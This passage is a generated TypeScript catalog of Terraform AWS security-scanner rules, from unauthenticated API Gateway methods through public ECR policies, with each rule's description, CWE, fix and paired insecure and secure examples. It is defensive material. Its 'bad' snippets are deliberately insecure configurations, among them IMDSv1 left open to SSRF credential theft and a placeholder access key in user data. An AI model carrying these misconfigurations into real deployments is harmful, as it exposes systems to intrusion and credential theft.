// Generated from the checks' metadata by test/rule-catalog.test.ts (UPDATE_SNAPSHOT=1 regenerates it).
// Do not edit: change the check, then regenerate.
import type { IacRuleMeta } from './check.js';

export const IAC_RULE_CATALOG: readonly IacRuleMeta[] = [
  {
    "id": "iac/aws-api-gateway-method-no-auth",
    "title": "API Gateway method has no authorization",
    "severity": "medium",
    "cwe": [
      "CWE-306"
    ],
    "description": "An `aws_api_gateway_method` with `authorization = \"NONE\"` can be called by anyone who finds the URL, reaching the back end (Lambda, HTTP service, AWS integration) without any identity. `OPTIONS` methods (CORS preflight) and methods that require an API key are not flagged; public endpoints that are meant to be anonymous can be suppressed with a reason.",
    "help": {
      "bad": "resource \"aws_api_gateway_method\" \"orders_post\" {\n  rest_api_id   = \"a1b2c3d4e5\"\n  resource_id   = \"f6g7h8\"\n  http_method   = \"POST\"\n  authorization = \"NONE\"\n}\n",
      "good": "resource \"aws_api_gateway_method\" \"orders_post\" {\n  rest_api_id   = \"a1b2c3d4e5\"\n  resource_id   = \"f6g7h8\"\n  http_method   = \"POST\"\n  authorization = \"AWS_IAM\"\n}\n",
      "fix": "Use `AWS_IAM`, `COGNITO_USER_POOLS` or a `CUSTOM` Lambda authorizer."
    },
    "references": [
      "https://docs.aws.amazon.com/apigateway/latest/developerguide/apigateway-control-access-to-api.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/api_gateway_method#authorization"
    ],
    "checkov": [
      "CKV_AWS_59"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:apigateway",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-api-gateway-stage-no-access-logs",
    "title": "API Gateway stage has no access logging",
    "severity": "low",
    "cwe": [
      "CWE-778"
    ],
    "description": "Without an `access_log_settings` block, the stage keeps no record of who called which route, from where and with what result, which leaves abuse of the API uninvestigable. Checked on `aws_api_gateway_stage` (REST) and `aws_apigatewayv2_stage` (HTTP and WebSocket).",
    "help": {
      "bad": "resource \"aws_api_gateway_stage\" \"prod\" {\n  rest_api_id   = \"a1b2c3d4e5\"\n  deployment_id = \"abc123\"\n  stage_name    = \"prod\"\n}\n",
      "good": "resource \"aws_api_gateway_stage\" \"prod\" {\n  rest_api_id   = \"a1b2c3d4e5\"\n  deployment_id = \"abc123\"\n  stage_name    = \"prod\"\n\n  access_log_settings {\n    destination_arn = \"arn:aws:logs:eu-west-1:111122223333:log-group:api-prod\"\n    format          = jsonencode({ requestId = \"$context.requestId\", ip = \"$context.identity.sourceIp\", status = \"$context.status\" })\n  }\n}\n",
      "fix": "Add `access_log_settings` with a CloudWatch Logs group (or Firehose) destination and a format that includes the caller and status."
    },
    "references": [
      "https://docs.aws.amazon.com/apigateway/latest/developerguide/set-up-logging.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/api_gateway_stage#access_log_settings"
    ],
    "checkov": [
      "CKV_AWS_76"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:apigateway",
      "owasp:A09:2021"
    ]
  },
  {
    "id": "iac/aws-cloudfront-allows-http",
    "title": "CloudFront distribution serves content over plain HTTP",
    "severity": "medium",
    "cwe": [
      "CWE-319"
    ],
    "description": "`viewer_protocol_policy = \"allow-all\"` in the default or an ordered cache behavior lets viewers fetch the content over HTTP, where it can be read and altered in transit (script injection, session theft). Use `redirect-to-https` or `https-only`.",
    "help": {
      "bad": "resource \"aws_cloudfront_distribution\" \"site\" {\n  enabled = true\n\n  origin {\n    domain_name = \"example-site.s3.eu-west-1.amazonaws.com\"\n    origin_id   = \"site\"\n  }\n\n  default_cache_behavior {\n    target_origin_id       = \"site\"\n    viewer_protocol_policy = \"allow-all\"\n    allowed_methods        = [\"GET\", \"HEAD\"]\n    cached_methods         = [\"GET\", \"HEAD\"]\n    cache_policy_id        = \"658327ea-f89d-4fab-a63d-7e88639e58f6\"\n  }\n\n  restrictions {\n    geo_restriction {\n      restriction_type = \"none\"\n    }\n  }\n\n  viewer_certificate {\n    acm_certificate_arn      = \"arn:aws:acm:us-east-1:111122223333:certificate/9f3e6a9c-2b1d-4c6e-8f0a-1234567890ab\"\n    ssl_support_method       = \"sni-only\"\n    minimum_protocol_version = \"TLSv1.2_2021\"\n  }\n}\n",
      "good": "resource \"aws_cloudfront_distribution\" \"site\" {\n  enabled = true\n\n  origin {\n    domain_name = \"example-site.s3.eu-west-1.amazonaws.com\"\n    origin_id   = \"site\"\n  }\n\n  default_cache_behavior {\n    target_origin_id       = \"site\"\n    viewer_protocol_policy = \"redirect-to-https\"\n    allowed_methods        = [\"GET\", \"HEAD\"]\n    cached_methods         = [\"GET\", \"HEAD\"]\n    cache_policy_id        = \"658327ea-f89d-4fab-a63d-7e88639e58f6\"\n  }\n\n  restrictions {\n    geo_restriction {\n      restriction_type = \"none\"\n    }\n  }\n\n  viewer_certificate {\n    acm_certificate_arn      = \"arn:aws:acm:us-east-1:111122223333:certificate/9f3e6a9c-2b1d-4c6e-8f0a-1234567890ab\"\n    ssl_support_method       = \"sni-only\"\n    minimum_protocol_version = \"TLSv1.2_2021\"\n  }\n}\n",
      "fix": "Set `viewer_protocol_policy = \"redirect-to-https\"` (or `\"https-only\"`) in every cache behavior."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/using-https-viewers-to-cloudfront.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudfront_distribution#viewer_protocol_policy"
    ],
    "checkov": [
      "CKV_AWS_34"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:cloudfront",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-cloudfront-no-waf",
    "title": "CloudFront distribution has no WAF web ACL",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
    "description": "A WAF web ACL (`web_acl_id`) in front of a distribution blocks common exploits (SQL injection, known bad inputs such as Log4Shell), bad bots and request floods at the edge, before they reach the origin. Distributions that serve only static public files may not need one, hence the low severity.",
    "help": {
      "bad": "resource \"aws_cloudfront_distribution\" \"app\" {\n  enabled = true\n\n  origin {\n    domain_name = \"app.example.com\"\n    origin_id   = \"app\"\n    custom_origin_config {\n      http_port              = 80\n      https_port             = 443\n      origin_protocol_policy = \"https-only\"\n      origin_ssl_protocols   = [\"TLSv1.2\"]\n    }\n  }\n\n  default_cache_behavior {\n    target_origin_id       = \"app\"\n    viewer_protocol_policy = \"redirect-to-https\"\n    allowed_methods        = [\"GET\", \"HEAD\"]\n    cached_methods         = [\"GET\", \"HEAD\"]\n    cache_policy_id        = \"658327ea-f89d-4fab-a63d-7e88639e58f6\"\n  }\n\n  restrictions {\n    geo_restriction {\n      restriction_type = \"none\"\n    }\n  }\n\n  viewer_certificate {\n    cloudfront_default_certificate = true\n  }\n}\n",
      "good": "resource \"aws_cloudfront_distribution\" \"app\" {\n  enabled    = true\n  web_acl_id = \"arn:aws:wafv2:us-east-1:111122223333:global/webacl/app/a1b2c3d4-5678-90ab-cdef-EXAMPLE11111\"\n\n  origin {\n    domain_name = \"app.example.com\"\n    origin_id   = \"app\"\n    custom_origin_config {\n      http_port              = 80\n      https_port             = 443\n      origin_protocol_policy = \"https-only\"\n      origin_ssl_protocols   = [\"TLSv1.2\"]\n    }\n  }\n\n  default_cache_behavior {\n    target_origin_id       = \"app\"\n    viewer_protocol_policy = \"redirect-to-https\"\n    allowed_methods        = [\"GET\", \"HEAD\"]\n    cached_methods         = [\"GET\", \"HEAD\"]\n    cache_policy_id        = \"658327ea-f89d-4fab-a63d-7e88639e58f6\"\n  }\n\n  restrictions {\n    geo_restriction {\n      restriction_type = \"none\"\n    }\n  }\n\n  viewer_certificate {\n    cloudfront_default_certificate = true\n  }\n}\n",
      "fix": "Create an `aws_wafv2_web_acl` with scope `CLOUDFRONT` (in us-east-1), for example with the AWS managed rule groups, and set `web_acl_id` to its ARN."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/distribution-web-awswaf.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudfront_distribution#web_acl_id"
    ],
    "checkov": [
      "CKV_AWS_68"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:cloudfront",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-cloudfront-outdated-tls",
    "title": "CloudFront distribution accepts TLS versions older than 1.2",
    "severity": "medium",
    "cwe": [
      "CWE-327"
    ],
    "description": "With a custom certificate (`acm_certificate_arn` or `iam_certificate_id`), `viewer_certificate.minimum_protocol_version` defaults to `TLSv1`, so viewers can negotiate SSLv3/TLS 1.0/1.1 (deprecated by RFC 8996, refused by PCI DSS). Distributions on the default `*.cloudfront.net` certificate cannot choose the version and are not flagged.",
    "help": {
      "bad": "resource \"aws_cloudfront_distribution\" \"site\" {\n  enabled = true\n  aliases = [\"www.example.com\"]\n\n  origin {\n    domain_name = \"origin.example.com\"\n    origin_id   = \"site\"\n    custom_origin_config {\n      http_port              = 80\n      https_port             = 443\n      origin_protocol_policy = \"https-only\"\n      origin_ssl_protocols   = [\"TLSv1.2\"]\n    }\n  }\n\n  default_cache_behavior {\n    target_origin_id       = \"site\"\n    viewer_protocol_policy = \"redirect-to-https\"\n    allowed_methods        = [\"GET\", \"HEAD\"]\n    cached_methods         = [\"GET\", \"HEAD\"]\n    cache_policy_id        = \"658327ea-f89d-4fab-a63d-7e88639e58f6\"\n  }\n\n  restrictions {\n    geo_restriction {\n      restriction_type = \"none\"\n    }\n  }\n\n  viewer_certificate {\n    acm_certificate_arn      = \"arn:aws:acm:us-east-1:111122223333:certificate/9f3e6a9c-2b1d-4c6e-8f0a-1234567890ab\"\n    ssl_support_method       = \"sni-only\"\n    minimum_protocol_version = \"TLSv1\"\n  }\n}\n",
      "good": "resource \"aws_cloudfront_distribution\" \"site\" {\n  enabled = true\n  aliases = [\"www.example.com\"]\n\n  origin {\n    domain_name = \"origin.example.com\"\n    origin_id   = \"site\"\n    custom_origin_config {\n      http_port              = 80\n      https_port             = 443\n      origin_protocol_policy = \"https-only\"\n      origin_ssl_protocols   = [\"TLSv1.2\"]\n    }\n  }\n\n  default_cache_behavior {\n    target_origin_id       = \"site\"\n    viewer_protocol_policy = \"redirect-to-https\"\n    allowed_methods        = [\"GET\", \"HEAD\"]\n    cached_methods         = [\"GET\", \"HEAD\"]\n    cache_policy_id        = \"658327ea-f89d-4fab-a63d-7e88639e58f6\"\n  }\n\n  restrictions {\n    geo_restriction {\n      restriction_type = \"none\"\n    }\n  }\n\n  viewer_certificate {\n    acm_certificate_arn      = \"arn:aws:acm:us-east-1:111122223333:certificate/9f3e6a9c-2b1d-4c6e-8f0a-1234567890ab\"\n    ssl_support_method       = \"sni-only\"\n    minimum_protocol_version = \"TLSv1.2_2021\"\n  }\n}\n",
      "fix": "Set `minimum_protocol_version = \"TLSv1.2_2021\"` (or newer) in `viewer_certificate`."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/secure-connections-supported-viewer-protocols-ciphers.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudfront_distribution#minimum_protocol_version"
    ],
    "checkov": [
      "CKV_AWS_174"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:cloudfront",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-cloudtrail-log-validation-disabled",
    "title": "CloudTrail log file validation is not enabled",
    "severity": "low",
    "cwe": [
      "CWE-354"
    ],
    "description": "Log file integrity validation writes signed digest files, so tampering with or deleting delivered CloudTrail logs can be proven. `enable_log_file_validation` defaults to `false`.",
    "help": {
      "bad": "resource \"aws_cloudtrail\" \"main\" {\n  name           = \"main\"\n  s3_bucket_name = \"example-cloudtrail\"\n}\n",
      "good": "resource \"aws_cloudtrail\" \"main\" {\n  name                       = \"main\"\n  s3_bucket_name             = \"example-cloudtrail\"\n  enable_log_file_validation = true\n}\n",
      "fix": "Set `enable_log_file_validation = true`."
    },
    "references": [
      "https://docs.aws.amazon.com/awscloudtrail/latest/userguide/best-practices-security.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudtrail"
    ],
    "checkov": [
      "CKV_AWS_36"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:cloudtrail",
      "owasp:A09:2021"
    ]
  },
  {
    "id": "iac/aws-cloudtrail-no-cloudwatch-logs",
    "title": "CloudTrail trail does not send events to CloudWatch Logs",
    "severity": "low",
    "cwe": [
      "CWE-778"
    ],
    "description": "Without `cloud_watch_logs_group_arn`, trail events only land in S3 and cannot drive CloudWatch metric filters and alarms (root login, IAM policy changes, console sign-in failures) that CIS AWS Foundations recommends.",
    "help": {
      "bad": "resource \"aws_cloudtrail\" \"main\" {\n  name           = \"main\"\n  s3_bucket_name = \"example-cloudtrail\"\n}\n",
      "good": "resource \"aws_cloudtrail\" \"main\" {\n  name                       = \"main\"\n  s3_bucket_name             = \"example-cloudtrail\"\n  cloud_watch_logs_group_arn = \"arn:aws:logs:eu-west-1:111122223333:log-group:cloudtrail:*\"\n  cloud_watch_logs_role_arn  = \"arn:aws:iam::111122223333:role/cloudtrail-to-cloudwatch\"\n}\n",
      "fix": "Set `cloud_watch_logs_group_arn` and `cloud_watch_logs_role_arn` to deliver the trail to a log group, and add metric filters with alarms."
    },
    "references": [
      "https://docs.aws.amazon.com/awscloudtrail/latest/userguide/best-practices-security.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudtrail"
    ],
    "checkov": [
      "CKV2_AWS_10"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:cloudtrail",
      "owasp:A09:2021"
    ]
  },
  {
    "id": "iac/aws-cloudtrail-not-kms-encrypted",
    "title": "CloudTrail logs are not encrypted with a KMS key",
    "severity": "low",
    "cwe": [
      "CWE-311"
    ],
    "description": "CloudTrail logs are encrypted with S3-managed keys by default. A KMS key (`kms_key_id`) adds a separate permission for reading the logs, so read access to the bucket alone no longer reveals the account activity history.",
    "help": {
      "bad": "resource \"aws_cloudtrail\" \"main\" {\n  name           = \"main\"\n  s3_bucket_name = \"example-cloudtrail\"\n}\n",
      "good": "resource \"aws_cloudtrail\" \"main\" {\n  name           = \"main\"\n  s3_bucket_name = \"example-cloudtrail\"\n  kms_key_id     = \"arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab\"\n}\n",
      "fix": "Set `kms_key_id` to a customer managed KMS key whose policy allows CloudTrail to encrypt."
    },
    "references": [
      "https://docs.aws.amazon.com/awscloudtrail/latest/userguide/best-practices-security.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudtrail"
    ],
    "checkov": [
      "CKV_AWS_35"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:cloudtrail",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-cloudtrail-not-multi-region",
    "title": "CloudTrail trail does not cover all regions",
    "severity": "medium",
    "cwe": [
      "CWE-778"
    ],
    "description": "A single-region trail misses API activity in every other region, which is exactly where an intruder creates resources to stay unnoticed. `is_multi_region_trail` defaults to `false`.",
    "help": {
      "bad": "resource \"aws_cloudtrail\" \"main\" {\n  name           = \"main\"\n  s3_bucket_name = \"example-cloudtrail\"\n}\n",
      "good": "resource \"aws_cloudtrail\" \"main\" {\n  name                  = \"main\"\n  s3_bucket_name        = \"example-cloudtrail\"\n  is_multi_region_trail = true\n}\n",
      "fix": "Set `is_multi_region_trail = true` (and `include_global_service_events = true`)."
    },
    "references": [
      "https://docs.aws.amazon.com/awscloudtrail/latest/userguide/best-practices-security.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudtrail"
    ],
    "checkov": [
      "CKV_AWS_67"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:cloudtrail",
      "owasp:A09:2021"
    ]
  },
  {
    "id": "iac/aws-default-security-group-allows-traffic",
    "title": "Default security group has rules",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "Resources launched without an explicit security group land in the VPC default security group, so any rule on it silently applies to them. CIS AWS Foundations recommends that the default security group allows no traffic. Terraform removes every rule from the default group that `aws_default_security_group` does not declare, so declaring it with no `ingress`/`egress` rules is the fix. A VPC created without such a declaration keeps the AWS default rules (all traffic between members of the group, all egress) and is reported too, as are rules attached to the default group as separate resources.",
    "help": {
      "bad": "resource \"aws_default_security_group\" \"default\" {\n  vpc_id = \"vpc-0123456789abcdef0\"\n\n  ingress {\n    protocol  = \"-1\"\n    self      = true\n    from_port = 0\n    to_port   = 0\n  }\n}\n",
      "good": "resource \"aws_default_security_group\" \"default\" {\n  vpc_id = \"vpc-0123456789abcdef0\"\n}\n",
      "fix": "Declare `aws_default_security_group` without rules and attach dedicated security groups to every resource."
    },
    "references": [
      "https://docs.aws.amazon.com/vpc/latest/userguide/default-security-group.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/default_security_group"
    ],
    "checkov": [
      "CKV2_AWS_12"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ec2",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-dynamodb-not-kms-encrypted",
    "title": "DynamoDB table is encrypted with an AWS owned key only",
    "severity": "low",
    "cwe": [
      "CWE-311"
    ],
    "description": "DynamoDB always encrypts at rest, by default with a key AWS owns, which gives no separate permission, audit trail or way to revoke access. `server_side_encryption { enabled = true }` switches to a KMS key (the AWS managed `aws/dynamodb` key, or a customer managed key with `kms_key_arn`).",
    "help": {
      "bad": "resource \"aws_dynamodb_table\" \"orders\" {\n  name         = \"orders\"\n  billing_mode = \"PAY_PER_REQUEST\"\n  hash_key     = \"id\"\n\n  attribute {\n    name = \"id\"\n    type = \"S\"\n  }\n}\n",
      "good": "resource \"aws_dynamodb_table\" \"orders\" {\n  name         = \"orders\"\n  billing_mode = \"PAY_PER_REQUEST\"\n  hash_key     = \"id\"\n\n  attribute {\n    name = \"id\"\n    type = \"S\"\n  }\n\n  server_side_encryption {\n    enabled     = true\n    kms_key_arn = \"arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab\"\n  }\n}\n",
      "fix": "Add `server_side_encryption { enabled = true, kms_key_arn = <customer managed key> }`."
    },
    "references": [
      "https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/EncryptionAtRest.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/dynamodb_table#server_side_encryption"
    ],
    "checkov": [
      "CKV_AWS_119"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:dynamodb",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-dynamodb-pitr-disabled",
    "title": "DynamoDB table has no point-in-time recovery",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
    "description": "Point-in-time recovery keeps continuous backups for up to 35 days, so a table can be restored to the second before a faulty deployment, a bulk delete or a malicious overwrite. It is off unless `point_in_time_recovery { enabled = true }`.",
    "help": {
      "bad": "resource \"aws_dynamodb_table\" \"orders\" {\n  name         = \"orders\"\n  billing_mode = \"PAY_PER_REQUEST\"\n  hash_key     = \"id\"\n\n  attribute {\n    name = \"id\"\n    type = \"S\"\n  }\n}\n",
      "good": "resource \"aws_dynamodb_table\" \"orders\" {\n  name         = \"orders\"\n  billing_mode = \"PAY_PER_REQUEST\"\n  hash_key     = \"id\"\n\n  attribute {\n    name = \"id\"\n    type = \"S\"\n  }\n\n  point_in_time_recovery {\n    enabled = true\n  }\n}\n",
      "fix": "Add `point_in_time_recovery { enabled = true }`."
    },
    "references": [
      "https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/PointInTimeRecovery.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/dynamodb_table#point_in_time_recovery"
    ],
    "checkov": [
      "CKV_AWS_28"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:dynamodb",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-ebs-encryption-by-default-disabled",
    "title": "EBS encryption by default is turned off",
    "severity": "medium",
    "cwe": [
      "CWE-311"
    ],
    "description": "`aws_ebs_encryption_by_default` with `enabled = false` lets every new volume and snapshot in the region be created unencrypted unless each one asks for encryption.",
    "help": {
      "bad": "resource \"aws_ebs_encryption_by_default\" \"this\" {\n  enabled = false\n}\n",
      "good": "resource \"aws_ebs_encryption_by_default\" \"this\" {\n  enabled = true\n}\n",
      "fix": "Set `enabled = true` in every region you use."
    },
    "references": [
      "https://docs.aws.amazon.com/ebs/latest/userguide/encryption-by-default.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/ebs_encryption_by_default"
    ],
    "checkov": [
      "CKV_AWS_106"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ec2",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-ebs-volume-not-encrypted",
    "title": "EBS volume is not encrypted",
    "severity": "medium",
    "cwe": [
      "CWE-311"
    ],
    "description": "An unencrypted EBS volume, and every snapshot taken from it, stores data in the clear; a snapshot shared by mistake exposes it all. `aws_ebs_volume` is unencrypted unless `encrypted = true` or the account turns on EBS encryption by default. Volumes created from a snapshot inherit its encryption and are not flagged, nor are volumes in a project that declares `aws_ebs_encryption_by_default` with `enabled = true`.",
    "help": {
      "bad": "resource \"aws_ebs_volume\" \"data\" {\n  availability_zone = \"eu-west-1a\"\n  size              = 100\n}\n",
      "good": "resource \"aws_ebs_volume\" \"data\" {\n  availability_zone = \"eu-west-1a\"\n  size              = 100\n  encrypted         = true\n}\n",
      "fix": "Set `encrypted = true` (and `kms_key_id` for a customer managed key), or enable `aws_ebs_encryption_by_default` in every region."
    },
    "references": [
      "https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/ebs_volume#encrypted"
    ],
    "checkov": [
      "CKV_AWS_3"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ec2",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-ec2-block-device-not-encrypted",
    "title": "EC2 block device is not encrypted",
    "severity": "medium",
    "cwe": [
      "CWE-311"
    ],
    "description": "EBS volumes declared in `root_block_device` / `ebs_block_device` of `aws_instance` and `aws_launch_configuration`, or in `block_device_mappings.ebs` of `aws_launch_template`, are unencrypted unless `encrypted = true` (or the account encrypts by default). Devices restored from a snapshot inherit its encryption and are skipped, as are projects that declare `aws_ebs_encryption_by_default` with `enabled = true`. Undeclared root volumes depend on the AMI and are not judged.",
    "help": {
      "bad": "resource \"aws_launch_template\" \"web\" {\n  name_prefix = \"web-\"\n  image_id    = \"ami-0123456789abcdef0\"\n\n  block_device_mappings {\n    device_name = \"/dev/xvda\"\n    ebs {\n      volume_size = 30\n    }\n  }\n}\n",
      "good": "resource \"aws_launch_template\" \"web\" {\n  name_prefix = \"web-\"\n  image_id    = \"ami-0123456789abcdef0\"\n\n  block_device_mappings {\n    device_name = \"/dev/xvda\"\n    ebs {\n      volume_size = 30\n      encrypted   = true\n    }\n  }\n}\n",
      "fix": "Set `encrypted = true` on each EBS block device, or enable `aws_ebs_encryption_by_default`."
    },
    "references": [
      "https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/instance#ebs-ephemeral-and-root-block-devices"
    ],
    "checkov": [
      "CKV_AWS_8"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ec2",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-ec2-imdsv1-enabled",
    "title": "EC2 instance metadata service allows IMDSv1",
    "severity": "medium",
    "cwe": [
      "CWE-918"
    ],
    "description": "With IMDSv1 the instance role's credentials can be read by a single unauthenticated GET to `169.254.169.254`, so any server-side request forgery in an application on the instance leaks them (as in the Capital One breach). IMDSv2 requires a session token obtained with a PUT. Checked on `aws_instance`, `aws_launch_template` and `aws_launch_configuration`: `metadata_options.http_tokens` must be `\"required\"` unless the endpoint is disabled. Instances launched from a launch template without their own `metadata_options`, and projects that set `aws_ec2_instance_metadata_defaults` with `http_tokens = \"required\"`, are not flagged.",
    "help": {
      "bad": "resource \"aws_instance\" \"web\" {\n  ami           = \"ami-0123456789abcdef0\"\n  instance_type = \"t3.micro\"\n\n  metadata_options {\n    http_tokens = \"optional\"\n  }\n}\n",
      "good": "resource \"aws_instance\" \"web\" {\n  ami           = \"ami-0123456789abcdef0\"\n  instance_type = \"t3.micro\"\n\n  metadata_options {\n    http_endpoint               = \"enabled\"\n    http_tokens                 = \"required\"\n    http_put_response_hop_limit = 1\n  }\n}\n",
      "fix": "Add `metadata_options { http_tokens = \"required\" }` (or set the account default with `aws_ec2_instance_metadata_defaults`)."
    },
    "references": [
      "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/instance#metadata-options"
    ],
    "checkov": [
      "CKV_AWS_79"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ec2",
      "owasp:A10:2021"
    ]
  },
  {
    "id": "iac/aws-ec2-public-ip",
    "title": "EC2 instance gets a public IP address",
    "severity": "low",
    "cwe": [
      "CWE-284"
    ],
    "description": "`associate_public_ip_address = true` puts the instance directly on the internet, where its security group is the only barrier. Most workloads belong in private subnets behind a load balancer or NAT gateway. Checked on `aws_instance`, `aws_launch_configuration` and the `network_interfaces` of `aws_launch_template`.",
    "help": {
      "bad": "resource \"aws_instance\" \"worker\" {\n  ami                         = \"ami-0123456789abcdef0\"\n  instance_type               = \"t3.micro\"\n  associate_public_ip_address = true\n}\n",
      "good": "resource \"aws_instance\" \"worker\" {\n  ami                         = \"ami-0123456789abcdef0\"\n  instance_type               = \"t3.micro\"\n  subnet_id                   = \"subnet-0123456789abcdef0\"\n  associate_public_ip_address = false\n}\n",
      "fix": "Launch into a private subnet with `associate_public_ip_address = false`; expose services through a load balancer."
    },
    "references": [
      "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/using-instance-addressing.html#concepts-public-addresses",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/instance#associate_public_ip_address"
    ],
    "checkov": [
      "CKV_AWS_88"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ec2",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-ec2-user-data-secrets",
    "title": "EC2 user data contains AWS credentials",
    "severity": "critical",
    "cwe": [
      "CWE-798"
    ],
    "description": "User data is readable by anyone who can describe the instance or reach its metadata service, is kept in the Terraform state and is often logged. An AWS access key ID (`AKIA...`/`ASIA...`) or an `aws_secret_access_key` assignment in it is a leaked credential. Checked in `user_data` and `user_data_base64` (decoded) of `aws_instance`, `aws_launch_template` and `aws_launch_configuration` when the value is known.",
    "help": {
      "bad": "resource \"aws_instance\" \"worker\" {\n  ami           = \"ami-0123456789abcdef0\"\n  instance_type = \"t3.micro\"\n  user_data     = <<-EOT\n    #!/bin/bash\n    export AWS_ACCESS_KEY_ID=AKIAQWERTYUIOPASDFGH\n    /opt/app/start\n  EOT\n}\n",
      "good": "resource \"aws_instance\" \"worker\" {\n  ami                  = \"ami-0123456789abcdef0\"\n  instance_type        = \"t3.micro\"\n  iam_instance_profile = \"worker\"\n  user_data            = <<-EOT\n    #!/bin/bash\n    /opt/app/start\n  EOT\n}\n",
      "fix": "Remove the keys (and rotate them); give the instance an IAM instance profile, and fetch other secrets from Secrets Manager or SSM Parameter Store at boot."
    },
    "references": [
      "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/user-data.html",
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_use_switch-role-ec2.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/instance#user_data"
    ],
    "checkov": [
      "CKV_AWS_46"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:ec2",
      "owasp:A07:2021"
    ]
  },
  {
    "id": "iac/aws-ecr-repository-policy-public",
    "title": "ECR repository policy allows any principal",
    "severity": "high",
    "cwe": [
      "CWE-732"
    ],
    "description": "A repository policy statement that allows `Principal = \"*\"` without a condition such as `aws:PrincipalOrgID` lets every AWS account pull the images (and their embedded code and secrets), or push over them when write actions are allowed. Read from `aws_ecr_repository_policy`.",
    "help": {
      "bad": "resource \"aws_ecr_repository_policy\" \"api\" {\n  repository = \"api\"\n  policy     = jsonencode({\n    Version   = \"2012-10-17\"\n    Statement = [{\n      Sid       = \"pull\"\n      Effect    = \"Allow\"\n      Principal = \"*\"\n      Action    = [\"ecr:BatchGetImage\", \"ecr:GetDownloadUrlForLayer\"]\n    }]\n  })\n}\n",
